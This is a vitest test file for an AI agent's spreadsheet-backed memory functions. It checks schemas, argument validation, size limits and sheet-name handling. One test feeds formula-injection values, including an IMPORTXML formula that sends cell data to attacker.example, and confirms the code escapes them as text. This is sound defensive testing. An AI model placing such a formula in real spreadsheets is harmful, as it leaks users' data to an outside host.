import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { AgentFileSystem, TaskTreeManager } from '../agent-fs/index.js';
import { createSheetManager, type SheetManager } from '../memory/index.js';
import type { DriveOperationsClient } from '../ports/index.js';
import type { JsonObject } from '../protocol/content.js';
import type { AgentEvent } from '../protocol/events.js';
import type { GenerateContentResponse } from '../protocol/gemini.js';
import { run } from '../run/index.js';
import {
  createMemoryInteractionStore,
  createScriptedBackendClient,
  functionCallChunk,
  type ScriptedBackendClient,
} from '../testing/index.js';
import { createMemoryGroup, toFunctionDeclaration, type FunctionContext } from './index.js';
import { fakeDriveClient } from '../../test/fake-drive-client.js';

interface FunctionFacts {
  params: string[];
  required: string[];
  enums: Record<string, string[]>;
}

const FACTS = JSON.parse(readFileSync(new URL('../../../../fixtures/functions/function-facts.json', import.meta.url), 'utf8')) as Record<string, FunctionFacts>;

const googleDrive = () => fakeDriveClient('user-token');

const turn = (name: string, args: JsonObject = {}): GenerateContentResponse[] => [functionCallChunk(name, args)];
const done = turn('system_objective_fulfilled', { objective_outcome: 'Done' });

async function collect(events: AsyncIterable<AgentEvent>): Promise<AgentEvent[]> {
  const all: AgentEvent[] = [];
  for await (const event of events) all.push(event);
  return all;
}

/** Runs a memory objective whose model makes `calls` in turn; returns what the model got back for each. */
async function callsThroughRun(drive: DriveOperationsClient, calls: Array<[string, JsonObject]>): Promise<JsonObject[]> {
  const backend: ScriptedBackendClient = createScriptedBackendClient([...calls.map(([name, args]) => turn(name, args)), done]);
  await collect(
    run(
      { segments: [{ type: 'text', text: 'Keep notes' }, { type: 'tool', path: 'function-group/use-memory', title: 'Use Memory' }], graph: { url: 'drive:/graph-9' } },
      { backend, store: createMemoryInteractionStore(), drive },
    ),
  );
  const contents = backend.requests.at(-1)?.body.contents ?? [];
  return contents.flatMap((content) => content.parts.flatMap((part) => (part.functionResponse ? [part.functionResponse.response as JsonObject] : [])));
}

/** Calls one memory function's handler directly, as the loop does after parsing its arguments. */
async function callHandler(name: string, args: JsonObject, memory: SheetManager): Promise<JsonObject> {
  const definition = createMemoryGroup().functions.find((candidate) => candidate.name === name);
  if (!definition) throw new Error(`no ${name}`);
  const fs = new AgentFileSystem();
  const context: FunctionContext = {
    callId: 'call-1',
    signal: new AbortController().signal,
    fs,
    taskTree: new TaskTreeManager(fs),
    ports: {} as FunctionContext['ports'],
    model: 'test',
    consentsGranted: new Set(),
    flags: {},
    memory,
    reportMetadata: () => undefined,
    update: () => undefined,
    terminate: () => undefined,
  };
  return definition.handler(definition.parameters.parse(args), context);
}

describe('the memory declarations', () => {
  it('match the protocol facts: names, parameters and their types, required fields and enums, each described', () => {
    const types: Record<string, Record<string, unknown>> = {
      memory_create_sheet: { name: 'string', columns: ['string'], task_id: 'string', status_update: 'string' },
      memory_read_sheet: { range: 'string', file_name: 'string', output_format: 'string', task_id: 'string', status_update: 'string' },
      memory_update_sheet: { range: 'string', values: [['string']], task_id: 'string' },
      memory_delete_sheet: { name: 'string', task_id: 'string', status_update: 'string' },
      memory_get_metadata: { task_id: 'string', status_update: 'string' },
    };
    const typeOf = (schema: JsonObject): unknown => (schema.type === 'array' ? [typeOf(schema.items as JsonObject)] : schema.type);
    const declarations = createMemoryGroup().functions.map(toFunctionDeclaration);
    expect(declarations.map((declaration) => declaration.name)).toEqual(Object.keys(types));
    for (const declaration of declarations) {
      const facts = FACTS[declaration.name] as FunctionFacts;
      const parameters = declaration.parametersJsonSchema as JsonObject;
      const properties = parameters.properties as Record<string, JsonObject>;
      expect(Object.keys(properties).sort(), declaration.name).toEqual([...facts.params].sort());
      expect([...(parameters.required as string[])].sort(), declaration.name).toEqual([...facts.required].sort());
      expect(Object.fromEntries(Object.entries(properties).flatMap(([name, property]) => (property.enum ? [[name, property.enum]] : []))), declaration.name).toEqual(
        facts.enums,
      );
      expect(Object.fromEntries(Object.entries(properties).map(([name, property]) => [name, typeOf(property)])), declaration.name).toEqual(types[declaration.name]);
      expect(declaration.description.length, declaration.name).toBeGreaterThan(20);
      for (const [name, property] of Object.entries(properties)) expect(typeof property.description, `${declaration.name}.${name}`).toBe('string');
    }
  });
});

describe('the memory functions, given hostile arguments', () => {
  it('answer missing fields and wrong types with an error naming the field, ignore extra fields, and write nothing for a refused call', async () => {
    const { fake, drive } = googleDrive();
    const responses = await callsThroughRun(drive, [
      ['memory_create_sheet', { columns: ['a'], status_update: '' }],
      ['memory_create_sheet', { name: 'Notes', columns: 'a,b', status_update: '' }],
      ['memory_create_sheet', { name: 'Notes', columns: ['note'], status_update: '', colour: 'red', nested: { deep: [1] } }],
      ['memory_update_sheet', { range: 'Notes!A2', values: [[{ text: 'hi' }]] }],
      ['memory_update_sheet', { range: 'Notes!A2', values: ['flat'] }],
      ['memory_update_sheet', { range: 42, values: [['x']] }],
      ['memory_read_sheet', { output_format: 'json', status_update: '' }],
    ]);
    expect(responses).toEqual([
      { error: expect.stringMatching(/^Invalid arguments for memory_create_sheet: name: /) },
      { error: expect.stringMatching(/^Invalid arguments for memory_create_sheet: columns: /) },
      { success: true },
      { error: expect.stringMatching(/^Invalid arguments for memory_update_sheet: values\[0\]\[0\]: /) },
      { error: expect.stringMatching(/^Invalid arguments for memory_update_sheet: values\[0\]: /) },
      { error: expect.stringMatching(/^Invalid arguments for memory_update_sheet: range: /) },
      { error: expect.stringMatching(/^Invalid arguments for memory_read_sheet: range: /) },
    ]);
    expect(fake.sheetValues(fake.files()[0]?.id as string, 'Notes')).toEqual([['note']]);
  });

  it('never let a value run as a formula: what could start one goes as text, and numbers go as typed', async () => {
    const { fake, drive } = googleDrive();
    const formulas = ['=IMPORTXML("https://attacker.example/?q="&A1, "//a")', '+SUM(1,2)', '-1+2', '@cmd'];
    const typed = ['007', '-5', '+1.50', 'true', "'quoted", 'plain', ''];
    const responses = await callsThroughRun(drive, [
      ['memory_create_sheet', { name: 'Notes', columns: ['=1+1', 'plain'], status_update: '' }],
      ['memory_update_sheet', { range: 'Notes!A2', values: [[...formulas, ...typed]] }],
      ['memory_read_sheet', { range: 'Notes!A1:K2', output_format: 'json', status_update: '' }],
      ['memory_get_metadata', { status_update: '' }],
    ]);
    // Formulas read back as written; the rest as a spreadsheet shows what a person typed.
    expect(responses[2]).toEqual({ json: JSON.stringify({ values: [['=1+1', 'plain'], [...formulas, '7', '-5', '1.5', 'TRUE', 'quoted', 'plain']] }) });
    expect(responses[3]).toMatchObject({ sheets: [{ name: 'Notes', columns: ['=1+1', 'plain'] }] });
    // A hidden apostrophe, which Sheets never evaluates, before what could start a formula only.
    const written = fake.requests.filter((request) => request.method === 'PUT' && request.path.includes('/values/Notes')).map((request) => request.body);
    expect(written).toEqual([{ values: [["'=1+1", 'plain']] }, { values: [[...formulas.map((cell) => `'${cell}`), ...typed]] }]);
  });

  it('handle sheet names with quotes and "!", and find a sheet whatever the case of its name, as Sheets does', async () => {
    const { fake, drive } = googleDrive();
    const name = "Bob's!notes";
    const responses = await callsThroughRun(drive, [
      ['memory_create_sheet', { name, columns: ['note'], status_update: '' }],
      ['memory_update_sheet', { range: "'Bob''s!notes'!A2", values: [['hello']] }],
      ['memory_read_sheet', { range: "'bob''s!NOTES'!A1:A2", output_format: 'json', status_update: '' }],
      ['memory_get_metadata', { status_update: '' }],
      ['system_read_text_from_file', { file_path: `/mnt/memory/${encodeURIComponent(name)}` }],
      ['memory_delete_sheet', { name: "BOB'S!Notes", status_update: '' }],
      ['memory_get_metadata', { status_update: '' }],
    ]);
    expect(responses).toEqual([
      { success: true },
      { success: true },
      { json: JSON.stringify({ values: [['note'], ['hello']] }) },
      { sheets: [{ name, file_path: "/mnt/memory/Bob's!notes", columns: ['note'] }] },
      { text: JSON.stringify([['note'], ['hello']]) },
      { success: true },
      { sheets: [] },
    ]);
    expect(fake.sheets(fake.files()[0]?.id as string)?.map((sheet) => sheet.title)).not.toContain(name);
  });

  it('save a read under an automatic name when file_name is empty, and never where the runtime serves its own files', async () => {
    const { drive } = googleDrive();
    const responses = await callsThroughRun(drive, [
      ['memory_create_sheet', { name: 'Notes', columns: ['note'], status_update: '' }],
      ['memory_read_sheet', { range: 'Notes!A1', output_format: 'file', file_name: '', status_update: '' }],
      ['memory_read_sheet', { range: 'Notes!A1', output_format: 'file', file_name: 'memory/Notes', status_update: '' }],
      ['system_read_text_from_file', { file_path: '/mnt/text1.md' }],
    ]);
    expect(responses.slice(1)).toEqual([
      { file_path: '/mnt/text1.md' },
      { error: 'file_name: /mnt/memory/ holds the runtime\'s own files; choose a plain name such as "scores"' },
      { text: JSON.stringify({ values: [['note']] }) },
    ]);
  });

  it('answer a malformed range with the reason, and a write past what a spreadsheet holds with an error naming values', async () => {
    const { drive } = googleDrive();
    const responses = await callsThroughRun(drive, [
      ['memory_create_sheet', { name: 'Notes', columns: ['note'], status_update: '' }],
      ['memory_update_sheet', { range: 'Notes!ZZZZ1:A', values: [['x']] }],
      ['memory_update_sheet', { range: 'Notes', values: [['x']] }],
      ['memory_update_sheet', { range: 'Notes!A3', values: [Array.from({ length: 10_000 }, (_, index) => `cell ${index}`)] }],
    ]);
    expect(responses.slice(1)).toEqual([
      { error: 'Drive API error: Unable to parse range: Notes!ZZZZ1:A' },
      { error: 'range "Notes" must name its sheet, e.g. "Scores!A1:B3"' },
      { error: 'values[0] holds 10000 cells, more than 1000 columns; a memory sheet is at most 1000 columns wide' },
    ]);
  });
});

describe('the memory functions, at their limits', () => {
  const long = (length: number) => 'x'.repeat(length);
  const cases: Array<{ name: string; args: JsonObject; code: string; field: string }> = [
    { name: 'memory_create_sheet', args: { name: long(101), columns: ['a'] }, code: 'BAD_REQUEST', field: 'name' },
    { name: 'memory_create_sheet', args: { name: 'Notes', columns: Array.from({ length: 1001 }, () => 'c') }, code: 'BAD_REQUEST', field: 'columns' },
    { name: 'memory_create_sheet', args: { name: 'Notes', columns: [long(50_000)] }, code: 'BAD_REQUEST', field: 'columns' },
    { name: 'memory_create_sheet', args: { name: 'Notes', columns: ['a'], status_update: long(10_000) }, code: 'BAD_REQUEST', field: 'status_update' },
    { name: 'memory_create_sheet', args: { name: 'Notes', columns: ['a'], task_id: long(10_000) }, code: 'BAD_REQUEST', field: 'task_id' },
    { name: 'memory_read_sheet', args: { range: `Notes!A1:${long(5_000)}`, output_format: 'json' }, code: 'BAD_REQUEST', field: 'range' },
    { name: 'memory_read_sheet', args: { range: 'Notes!A1', output_format: 'file', file_name: long(1_000) }, code: 'BAD_REQUEST', field: 'file_name' },
    { name: 'memory_read_sheet', args: { range: 'Notes!A1', output_format: 'file', file_name: 'memory/notes' }, code: 'BAD_REQUEST', field: 'file_name' },
    { name: 'memory_read_sheet', args: { range: 'Notes!A1', output_format: 'file', file_name: '/mnt/system/chat_log' }, code: 'BAD_REQUEST', field: 'file_name' },
    { name: 'memory_read_sheet', args: { range: 'Notes!A1', output_format: 'json', status_update: long(10_000) }, code: 'BAD_REQUEST', field: 'status_update' },
    { name: 'memory_update_sheet', args: { range: `Notes!A1:${long(5_000)}`, values: [['x']] }, code: 'BAD_REQUEST', field: 'range' },
    { name: 'memory_update_sheet', args: { range: 'Notes!A1', values: Array.from({ length: 100_001 }, () => ['x']) }, code: 'BAD_REQUEST', field: 'values' },
    { name: 'memory_update_sheet', args: { range: 'Notes!A1', values: [[long(50_000)]] }, code: 'BAD_REQUEST', field: 'values' },
    { name: 'memory_update_sheet', args: { range: 'Notes!A1', values: Array.from({ length: 100 }, () => [long(45_000)]) }, code: 'BAD_REQUEST', field: 'values' },
    { name: 'memory_update_sheet', args: { range: 'Notes!A1', values: [['x']], task_id: long(10_000) }, code: 'BAD_REQUEST', field: 'task_id' },
    { name: 'memory_delete_sheet', args: { name: long(101) }, code: 'BAD_REQUEST', field: 'name' },
    { name: 'memory_delete_sheet', args: { name: 'Notes', status_update: long(10_000) }, code: 'BAD_REQUEST', field: 'status_update' },
    { name: 'memory_get_metadata', args: { status_update: long(10_000) }, code: 'BAD_REQUEST', field: 'status_update' },
    { name: 'memory_get_metadata', args: { task_id: long(10_000) }, code: 'BAD_REQUEST', field: 'task_id' },
  ];

  it('refuse every input past its limit with a coded error naming the field, before anything reaches Google', async () => {
    const { fake, drive } = googleDrive();
    const memory = createSheetManager({ drive, graph: { url: 'drive:/graph-9' } });
    for (const { name, args, code, field } of cases) {
      const where = `${name} ${field}`;
      const error = await callHandler(name, args, memory).then(
        () => undefined,
        (thrown: unknown) => thrown,
      );
      expect(error, where).toMatchObject({ code, details: { field } });
      expect((error as Error).message, where).toContain(field);
      expect((error as Error).message.length, where).toBeLessThan(400);
    }
    expect(fake.requests).toEqual([]);
  });

  it('accept inputs right at their limits', async () => {
    const { fake, drive } = googleDrive();
    const memory = createSheetManager({ drive, graph: { url: 'drive:/graph-9' } });
    const name = long(100);
    expect(await callHandler('memory_create_sheet', { name, columns: Array.from({ length: 1000 }, (_, index) => `c${index}`), status_update: long(1000) }, memory)).toEqual({
      success: true,
    });
    expect(await callHandler('memory_update_sheet', { range: `${name}!A2`, values: [[long(49_999)], ['y']], task_id: long(200) }, memory)).toEqual({ success: true });
    expect(fake.sheetValues(fake.files()[0]?.id as string, name)?.slice(1).map((row) => row[0]?.length)).toEqual([49_999, 1]);
  });
});
